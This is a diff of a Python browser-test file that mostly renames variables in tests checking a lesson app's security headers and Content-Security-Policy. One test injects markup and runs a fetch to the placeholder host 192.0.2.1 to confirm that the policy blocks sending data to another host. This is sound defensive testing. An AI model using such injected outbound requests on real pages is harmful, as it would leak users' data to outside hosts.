@@ -43,9 +43,9 @@ def visit(browser, server):
 def headers(server, path: str = "/") -> dict[str, str]:
     connection = http.client.HTTPConnection(urlsplit(server.url).netloc, timeout=10)
     connection.request("GET", path)
-    found = {name.lower(): value for name, value in connection.getresponse().getheaders()}
+    result = {name.lower(): value for name, value in connection.getresponse().getheaders()}
     connection.close()
-    return found
+    return result
 
 
 def rules(server) -> dict[str, list[str]]:
@@ -58,44 +58,46 @@ def rules(server) -> dict[str, list[str]]:
     ["/", "/gates", "/_stcore/health", "/app/static/icon.svg", "/metrics", "/media/none.html"],
 )
 def test_every_answer_has_the_headers(server, path):
-    found = headers(server, path)
-    assert "script-src 'self'" in found["content-security-policy"]
-    assert found["x-content-type-options"] == "nosniff"
-    assert found["referrer-policy"] == "strict-origin"
-    assert "camera=()" in found["permissions-policy"]
+    result = headers(server, path)
+    assert "script-src 'self'" in result["content-security-policy"]
+    assert result["x-content-type-options"] == "nosniff"
+    assert result["referrer-policy"] == "strict-origin"
+    assert "camera=()" in result["permissions-policy"]
 
 
 @pytest.mark.parametrize("path", ["/app/static/d3.min.js", "/app/static/components/slider.css"])
 def test_what_is_no_page_has_what_keeps_it_from_being_one(server, path):
-    found = headers(server, path)
-    assert found["x-content-type-options"] == "nosniff"
-    assert "content-security-policy" not in found
+    result = headers(server, path)
+    assert result["x-content-type-options"] == "nosniff"
+    assert "content-security-policy" not in result
 
 
 def test_no_other_host_and_nothing_unsafe_but_styles(server):
-    found = rules(server)
-    for name, sources in found.items():
+    result = rules(server)
+    for name, sources in result.items():
         for source in sources:
             own = re.fullmatch(r"'(self|none|sha256-[\w+/]+=*)'|blob:|data:", source)
             style = (name, source) == ("style-src", "'unsafe-inline'")
             frame = (name, source) == ("frame-ancestors", "*")
             assert own or style or frame, (name, source)
-    assert found["default-src"] == found["script-src-attr"] == ["'none'"]
-    assert not {"object-src", "frame-src", "worker-src"} & set(found)  # as by default
+    assert result["default-src"] == result["script-src-attr"] == ["'none'"]
+    assert not {"object-src", "frame-src", "worker-src"} & set(result)  # as by default
 
 
 def test_what_a_page_asks_for_does_not_tell_its_address(visit):
     """In which a text can stand: a proxy's log has the Referer of every script and picture."""
     lesson = visit("text", {"lang": "en", "tx.cutters.text": "Zebrafinches"})
-    told: dict[str, str] = {}
-    lesson.page.on("request", lambda one: told.update({one.url: one.headers.get("referer", "")}))
+    payload: dict[str, str] = {}
+    lesson.page.on(
+        "request", lambda item: payload.update({item.url: item.headers.get("referer", "")})
+    )
     lesson.page.reload()
     lesson.chart("tx.cutters").wait_for()
     lesson.whole()
     assert "Zebrafinches" in lesson.page.url
-    assert len(told) > 20
-    assert any(told.values())
-    assert not [one for one, referer in told.items() if "Zebra" in referer]
+    assert len(payload) > 20
+    assert any(payload.values())
+    assert not [item for item, referer in payload.items() if "Zebra" in referer]
 
 
 def look_through(lesson) -> None:
@@ -112,7 +114,7 @@ def look_through(lesson) -> None:
 
 @pytest.mark.parametrize(
     "record",
-    first_only([r for r in catalog.LESSONS if r.slug != "attention"], keep=0),
+    first_only([r for r in catalog.LESSONS if r.slug != "attention"], retained=0),
     ids=lambda record: record.slug,
 )
 def test_a_lesson_works_under_the_policy(visit, record):
@@ -127,19 +129,19 @@ def test_a_lesson_works_under_the_policy(visit, record):
 def test_bertviz_draws_in_its_frame_which_inherits_the_policy(visit, minilm_on_disk):
     """Both of its views, and the rest of their lesson."""
     lesson = visit("attention", {"at.real.view": "head", "at.bertviz.picture": "head"})
-    shown = lesson.by_key("bench-bertviz").locator("iframe")
-    seen = set()
+    visible = lesson.by_key("bench-bertviz").locator("iframe")
+    observed = set()
     for picture in bertviz_page.VIEWS:
         if picture != "head":
             name = Text("en")(f"attention.option.picture.{picture}")
-            before = shown.get_attribute("srcdoc")
+            before = visible.get_attribute("srcdoc")
             lesson.by_key("at.bertviz.picture").get_by_text(name, exact=True).click()
-            expect(shown).not_to_have_attribute("srcdoc", before, timeout=60_000)
-        frame = shown.element_handle().content_frame()
+            expect(visible).not_to_have_attribute("srcdoc", before, timeout=60_000)
+        frame = visible.element_handle().content_frame()
         frame.locator("svg text").first.wait_for()
         assert frame.locator("svg text").count() > 5
-        seen.add(frame.content())
-    assert len(seen) == len(bertviz_page.VIEWS) == 2
+        observed.add(frame.content())
+    assert len(observed) == len(bertviz_page.VIEWS) == 2
     look_through(lesson)
 
 
@@ -147,9 +149,9 @@ def test_the_digests_are_those_of_bertviz_pages():
     weights = np.full((2, 2, 3, 3), 1 / 3, np.float32)
     for view in bertviz_page.VIEWS:
         html = bertviz_page.page(view, weights, ("a", "b", "c")).html
-        found = policy.inline_scripts(html)
-        assert len(found) == (3 if view == "model" else 2)  # the data are in none of them
-        assert {policy.digest(text) for text in found} <= set(
+        results = policy.inline_scripts(html)
+        assert len(results) == (3 if view == "model" else 2)  # the data are in none of them
+        assert {policy.digest(text) for text in results} <= set(
             re.findall(r"'sha256-[^']+'", policy.policy("*"))
         )
 
@@ -184,34 +186,34 @@ def test_markup_that_got_into_a_page_cannot_run_or_ask_another_host(browser, ser
     context = browser.new_context(locale="en-US")
     context.add_init_script(WATCH)
     page = context.new_page()
-    said = []
-    page.on("console", lambda message: said.append(message.text))
-    asked = []
-    page.on("request", lambda request: asked.append(request.url))
+    messages = []
+    page.on("console", lambda message: messages.append(message.text))
+    requests = []
+    page.on("request", lambda request: requests.append(request.url))
     page.goto(server.url)
     page.locator("h1").wait_for()
     assert page.evaluate(INJECT.replace("OTHER", "http://192.0.2.1")) is False
-    told = page.evaluate(
+    payload = page.evaluate(
         """async () => {
             const told = await fetch("http://192.0.2.1/?text").then(() => "sent", () => "not sent");
             await new Promise((resolve) => setTimeout(resolve, 300));  // the report comes later
             return told;
         }"""
     )
-    assert told == "not sent"
-    violated = {text.split()[1] for text in said if text.startswith("policy: ")}
+    assert payload == "not sent"
+    violated = {text.split()[1] for text in messages if text.startswith("policy: ")}
     assert {"script-src-attr", "script-src-elem", "script-src", "connect-src"} <= violated
     # Without the policy all of these run: the test can fail.
     bare = browser.new_context().new_page()
     bare.goto("about:blank")
     assert bare.evaluate(INJECT.replace("OTHER", "http://127.0.0.1:9")) is True
-    assert not [url for url in asked if "192.0.2.1" in url and not blocked(said, url)]
+    assert not [url for url in requests if "192.0.2.1" in url and not blocked(messages, url)]
     context.close()
 
 
-def blocked(said: list[str], url: str) -> bool:
+def blocked(messages: list[str], url: str) -> bool:
     """Whether the console says that this address was refused before anything was sent."""
-    return any(text.startswith("policy: ") and url.split("?")[0] in text for text in said)
+    return any(text.startswith("policy: ") and url.split("?")[0] in text for text in messages)
 
 
 def test_a_site_that_may_show_the_app_is_a_setting():
